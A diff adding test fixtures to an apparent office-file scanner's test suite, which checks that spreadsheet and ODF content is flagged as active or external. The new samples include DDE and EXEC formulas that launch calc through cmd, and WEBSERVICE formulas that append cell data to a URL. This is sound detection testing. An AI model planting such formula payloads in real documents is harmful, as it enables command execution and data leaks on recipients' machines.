@@ -159,6 +159,21 @@ BAD_OFFICE = {
         office("word", ("word/a.xml", b"<w><p><instrText>DD</instrText><instrText>EAUTO cmd</instrText></p></w>")),
         "active",
     ),
+    "a formula that asks the web": (
+        office("xl", ("xl/worksheets/sheet1.xml", b'<s><c><f>_xlfn.WEBSERVICE("http://a/"&amp;A1)</f></c></s>')),
+        "external",
+    ),
+    "a picture by a formula": (
+        office("xl", ("xl/worksheets/sheet1.xml", b"<s><f>_xlfn.IMAGE(A1)</f></s>")),
+        "external",
+    ),
+    "a formula that runs": (office("xl", ("xl/worksheets/sheet1.xml", b"<s><f>cmd|' /C calc'!A0</f></s>")), "active"),
+    "a name that runs": (
+        office("xl", ("xl/workbook.xml", b'<w><definedName>EXEC("calc")</definedName></w>')),
+        "active",
+    ),
+    "an ODF formula that asks the web": (odt('<s:cell s:formula="of:=WEBSERVICE([.A1])"/>'), "external"),
+    "an ODF conversation by a formula": (odt('<s:cell s:formula=\'of:=DDE("soffice";"a";"b")\'/>'), "active"),
     "an entity": (office("word", ("word/a.xml", b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>')), "broken"),
     "no XML": (office("word", ("word/a.xml", b"<a>")), "broken"),
     "an ODF macro": (open_document("odt", "<a/>", ("Basic/Standard/Module1.xml", b"<a/>")), "active"),
@@ -182,6 +197,7 @@ def test_an_office_file_with_pictures_links_and_a_chart_is_taken():
         ("word/embeddings/Microsoft_Excel_Sheet1.xlsx", office("xl", ("xl/printerSettings/a.bin", b"\0\1"))),
         relationship("hyperlink", "https://example.org/"),
         ("word/a.xml", b"<w><p><instrText> PAGE </instrText></p></w>"),
+        ("xl/worksheets/sheet1.xml", b"<s><c><f>SUM(A1:A9)&amp;Data!B2|1</f></c><c><f>'My calls'!A1</f></c></s>"),
     )
     assert code_of(content, "form.docx") == ""
     assert code_of(odt('<o:a xlink:href="https://example.org"/><o:image xlink:href="Pictures/1.png"/>')) == ""
